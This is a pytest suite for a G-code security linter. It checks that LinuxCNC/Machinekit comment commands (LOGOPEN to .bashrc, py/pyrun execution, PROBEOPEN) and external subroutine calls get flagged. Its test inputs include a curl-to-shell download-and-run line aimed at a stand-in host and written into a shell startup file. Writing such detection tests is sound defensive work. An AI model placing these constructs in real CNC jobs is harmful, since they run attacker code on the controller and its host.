"""Issue 25: LinuxCNC/Machinekit comment commands and subroutine calls, in every dialect.

LinuxCNC steps over the leading blanks of a comment and compares its start, lower-cased, with "log,",
"logopen,", "logappend,", "py,", "pyrun," and "pyreload" (src/emc/rs274ngc/interp_convert.cc
convert_comment); the controller opens a probe log for "PROBEOPEN" (src/emc/task/emccanon.cc COMMENT, upper
case only); "o<name> call" of a subroutine not defined above runs the file name.ngc when there is one
(interp_o_word.cc control_back_to).  Each reproducer passed the gate before.
"""

from __future__ import annotations

import json

import pytest
from click.testing import CliRunner

from gclint.cli import main
from gclint.engine import Linter, Options

DIALECTS = ["auto", "hyrel", "marlin", "reprap", "machinekit", "carvera"]


def _findings(text: str, dialect: str = "auto", path: str = "job.ngc") -> list:
    found = Linter(Options(dialect=dialect)).check_text(text, path).findings
    return [f for f in found if f.code.startswith("SC")]


def _codes_by_line(text: str, dialect: str = "auto") -> set[tuple[int, str]]:
    return {(f.line, f.code) for f in _findings(text, dialect)}


def test_the_logging_reproducer_fails_the_gate(tmp_path):
    job = tmp_path / "job.ngc"
    job.write_text("G21\n(LOGOPEN,/home/cnc/.bashrc)\n(LOG,curl http://example.invalid/x | sh)\n(LOGCLOSE)\nM2\n")
    result = CliRunner().invoke(main, ["check", "--no-cache", "-f", "json", "--", str(job)])
    assert result.exit_code == 1, result.output
    found = {(f["line"], f["code"]) for f in json.loads(result.stdout)}
    assert {(2, "SC005"), (3, "SC005")} <= found, found


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(
    "line, code",
    [
        ("(LOGOPEN,/home/cnc/.bashrc)", "SC005"),
        ("(LOGAPPEND,/home/cnc/.profile)", "SC005"),
        ("(LOG,curl http://example.invalid/x | sh)", "SC005"),
        ("(PROBEOPEN /home/cnc/linuxcnc/configs/my.ini)", "SC005"),
        ("(py,import os)", "SC001"),
        ("(pyrun,import os)", "SC001"),
        ("(PYRELOAD)", "SC001"),
        (";py,import os", "SC001"),
        ("G0 X1 (LOGOPEN,/tmp/x)", "SC005"),  # after a command
        ("G0 X1 ; LOGAPPEND,/tmp/x", "SC005"),  # after ";" (overview.adoc "Comments")
    ],
)
def test_comment_commands_in_every_dialect(dialect, line, code):
    assert (2, code) in _codes_by_line(f"G21\n{line}\nM2\n", dialect), line


@pytest.mark.parametrize(
    "line",
    [
        "(  \tLOGOPEN,/tmp/x)",  # leading blanks are stepped over (isspace)
        "(LogOpen,/tmp/x)",  # any case
        "( log,text)",
        "(\x0bLOG,text)",  # a vertical tab is a blank to isspace
    ],
)
def test_comment_commands_are_read_as_linuxcnc_reads_them(line):
    assert (1, "SC005") in _codes_by_line(f"{line}\n", "machinekit"), line


@pytest.mark.parametrize(
    "line",
    [
        "(LOG ,text)",  # a blank before the comma: a plain comment to convert_comment
        "(probeopen x.txt)",  # COMMENT compares PROBEOPEN as written
        "(LOGCLOSE)",
        "(MSG,hello)",
        "(PRINT,#<x>)",
        "(the log, as kept)",
        "(LOGOPEN,)",  # no file name: nothing opened
    ],
)
def test_other_comments_are_not_reported(line):
    assert _findings(f"G21\n{line}\nM2\n", "machinekit") == [], line


def test_comment_commands_on_a_line_the_grammar_refused():
    text = "; gclint: disable=SX\nG21\n!! (LOGOPEN,/home/cnc/.bashrc) (x\n!! (pyrun,import os\nM2\n"
    assert {(3, "SC005"), (4, "SC001")} <= _codes_by_line(text, "machinekit")


def test_comment_commands_cannot_be_silenced_by_the_job():
    text = "(LOGOPEN,/tmp/x) ; noqa: SC005\n; gclint: disable=SC\n(py,import os)\nM2\n"
    assert {(1, "SC005"), (3, "SC001")} <= _codes_by_line(text, "machinekit")


def test_the_message_names_the_file_and_masks_secrets():
    [finding] = _findings("(LOGOPEN,/home/cnc/.bashrc)\n", "machinekit")
    assert '"/home/cnc/.bashrc"' in finding.message and "truncate" in finding.message
    [finding] = [f for f in _findings("(LOG,password = hunter2hunter2)\n", "machinekit") if f.code == "SC005"]
    assert "hunter2" not in finding.message and "hunter2" not in (finding.source or "")


# -- subroutine calls -------------------------------------------------------------------------------------


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_call_of_another_file_is_reported(dialect):
    found = [f for f in _findings("G21\no<evil> call [1]\nM2\n", dialect) if f.code == "SC004"]
    assert [f.line for f in found] == [2] and '"evil.ngc"' in found[0].message


@pytest.mark.parametrize(
    "text",
    [
        "o<probe> sub\nG0 Z1\no<probe> endsub\no<probe> call\nM2\n",
        "o<Probe Edge> sub\nG0 Z1\no<probe edge> endsub\nO<PROBEEDGE> CALL\nM2\n",  # blanks and case dropped
        "o100 sub\nG0 Z1\no100 endsub\no0100 call\nM2\n",  # the number 100
    ],
)
def test_a_call_of_a_subroutine_defined_above_is_not_reported(text):
    assert [f for f in _findings(text, "machinekit") if f.code == "SC004"] == []


@pytest.mark.parametrize(
    "text, line",
    [
        ("o<probe> call\nM2\no<probe> sub\nG0 Z1\no<probe> endsub\n", 1),  # defined below: probe.ngc first
        ("o[#1 * 10] call\nM2\n", 1),  # a computed name
        ("o#<sub> call\nM2\n", 1),
        ("M98 P100\nM30\nO100\nG0 Z1\nM99\n", 1),  # Fanuc style, subprogram below: 100.ngc first
    ],
)
def test_a_call_that_may_run_a_file_is_reported(text, line):
    assert [f.line for f in _findings(text, "machinekit") if f.code == "SC004"] == [line]
